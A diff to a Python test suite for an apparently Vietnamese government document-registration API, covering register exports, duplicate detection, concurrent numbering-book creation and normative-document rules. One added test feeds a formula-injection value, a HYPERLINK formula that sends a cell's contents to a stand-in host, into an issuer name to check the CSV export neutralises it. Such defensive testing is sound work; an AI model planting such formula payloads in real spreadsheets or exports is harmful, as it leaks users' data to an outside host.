@@ -359,8 +359,14 @@ def test_registers_export_their_ten_columns_as_csv_with_a_bom_and_as_xlsx():
     r = call("GET", f"/api/v1/registers/out?from={today}&to={today}&format=xlsx", token=tok("stp.giamdoc"))
     assert r.status == 200 and r.body[:2] == b"PK", r.headers
     with zipfile.ZipFile(io.BytesIO(r.body)) as z:
-        strings = z.read("xl/sharedStrings.xml").decode("utf-8")
+        strings = z.read("xl/worksheets/sheet1.xml").decode("utf-8")
     assert out["number_notation"] in strings and "Số, ký hiệu văn bản" in strings
+    # text a spreadsheet would run as a formula is shown as text
+    incoming(subject="Công văn có tên nơi gửi lạ", issuer_name='=HYPERLINK("http://x.example/?"&A1,"Mở")')
+    r = call("GET", f"/api/v1/registers/in?from={today}&to={today}", token=tok("stp.vanthu"))
+    rows = list(csv.reader(r.body[3:].decode("utf-8").split("\r\n")[:-1]))
+    assert any(x[2] == '\'=HYPERLINK("http://x.example/?"&A1,"Mở")' for x in rows), rows[-1]
+    assert not any(x[2].startswith("=") for x in rows)
     problem(call("GET", f"/api/v1/registers/in?from={today}&to={today}", token=tok("stp.chuyenvien")), 403, "forbidden")
     for bad in (f"from={today}", f"from={today}&to=2026-02-30", f"from={today}&to={today}&format=pdf",
                 "from=2026-12-31&to=2026-01-01"):
@@ -533,6 +539,29 @@ def test_a_document_registered_before_is_a_warning_the_clerk_confirms_never_a_bl
             dict(base, external_id=None, number_notation="2/X", issuer_code="000.00.23.H19",
                  subject=f"Quyết định {tag} có mã")), 201)
     problem(post("stp.vanthu", "/api/v1/documents/incoming", dict(base, duplicate_ok="yes")), 400, "invalid-field")
+    # number and notation given apart must say what number_notation says
+    before = count()
+    problem(post("stp.vanthu", "/api/v1/documents/incoming",
+                 dict(given, number="99", notation="QĐ-XYZ", subject=f"Quyết định {tag} trái")), 422, "invalid-value")
+    assert count() == before
+    # the confirmed duplicate remembers what it looked like, and the register says so
+    today = datetime.datetime.now(datetime.timezone(datetime.timedelta(hours=7))).date().isoformat()
+    reg = call("GET", f"/api/v1/registers/in?from={today}&to={today}", token=tok("stp.vanthu")).body.decode("utf-8")
+    assert f"Trùng văn bản đến số {first['book']['number']}/" in reg
+
+
+def test_the_paper_original_of_a_copy_received_electronically_is_a_possible_duplicate():
+    issued = _issue_doc(subject="Quyết định gửi điện tử, rồi gửi giấy")
+    copy = int(psql(f"SELECT delivered_id FROM document_recipients WHERE document_id = {issued['id']}"
+                    " AND agency_id IS NOT NULL"))
+    reg = ok(post("stttt.vanthu", f"/api/v1/documents/{copy}/register"))
+    assert (reg["number"], reg["notation"]) == (issued["number_notation"].split("/", 1)[0],
+                                                issued["number_notation"].split("/", 1)[1])
+    paper = {"type_code": "QD", "subject": "Quyết định (bản giấy)", "number_notation": issued["number_notation"],
+             "doc_date": issued["doc_date"], "issuer_name": "Sở Tư pháp", "issuer_code": "000.00.21.H19"}
+    r = post("stttt.vanthu", "/api/v1/documents/incoming", paper)
+    problem(r, 409, "possible-duplicate")
+    assert r.json["duplicate_of"]["id"] == copy
 
 
 def test_fifty_concurrent_registrations_get_fifty_consecutive_numbers():
@@ -1100,7 +1129,6 @@ def test_a_deadline_passes_when_the_one_clock_moves_past_it():
 
 
 def test_books_are_chosen_by_the_document_and_set_by_the_agency_administrator():
-    year = datetime.datetime.now(datetime.timezone(datetime.timedelta(hours=7))).year
     run = uuid.uuid4().hex[:6]
     # an administrator of Sở Tư pháp, and an advisory body of its own for this run
     r = admin("create-user", f"stp.qtv{run}", "Quản trị Sở Tư pháp", "000.00.21.H19", "admin", "Quản trị viên",
@@ -1139,6 +1167,11 @@ def test_books_are_chosen_by_the_document_and_set_by_the_agency_administrator():
     assert made["issuing_body"]["abbr"] == abbr and made["type_codes"] == ["BC"] and made["last_number"] == 0
     problem(post(who, "/api/v1/books", {"name": "Sổ báo cáo 2", "issuing_body_id": body, "type_codes": ["BC"]}),
             409, "book-overlap")
+    # two administrators at once: one book, one overlap, no failure
+    with concurrent.futures.ThreadPoolExecutor(2) as ex:
+        both = list(ex.map(lambda n: post(who, "/api/v1/books", {"name": f"Sổ tờ trình {n}", "issuing_body_id": body,
+                                                                  "type_codes": ["TTR"]}), range(2)))
+    assert sorted(r.status for r in both) == [201, 409], both
 
     # the clerk never picks: the document's type and body choose the book
     bc = _issue_doc(type_code="BC", subject="Báo cáo của Hội đồng", issuing_body_id=body)
@@ -1146,11 +1179,11 @@ def test_books_are_chosen_by_the_document_and_set_by_the_agency_administrator():
     assert bc["issuing_body"] == {"id": body, "name": "Hội đồng tư vấn thử", "abbr": abbr}
     kh = _issue_doc(type_code="KH", subject="Kế hoạch của Hội đồng", issuing_body_id=body)
     assert kh["number_notation"] == f"01/KH-{abbr}" and kh["book"]["id"] != made["id"]
-    qd = _issue_doc(type_code="QD", subject="Quyết định quy phạm của Hội đồng", issuing_body_id=body, normative=True)
-    assert qd["number_notation"] == f"01/{year}/QĐ-{abbr}" and qd["normative"] is True, qd["number_notation"]
-    problem(post("stp.chuyenvien", "/api/v1/documents/outgoing", {
-        "type_code": "TB", "subject": "Thông báo quy phạm", "normative": True,
-        "recipients": [{"agency_code": "000.00.23.H19"}]}), 422, "invalid-value")
+    # an advisory body issues no legal normative documents, nor does a department
+    for extra in ({"issuing_body_id": body}, {}):
+        problem(post("stp.chuyenvien", "/api/v1/documents/outgoing", {
+            "type_code": "QD", "subject": "Quyết định quy phạm", "normative": True,
+            "recipients": [{"agency_code": "000.00.23.H19"}], **extra}), 422, "invalid-value")
     mine = {b["id"]: b for b in ok(call("GET", "/api/v1/books", token=tok(who)))["items"]}
     assert mine[made["id"]]["last_number"] == 1
 
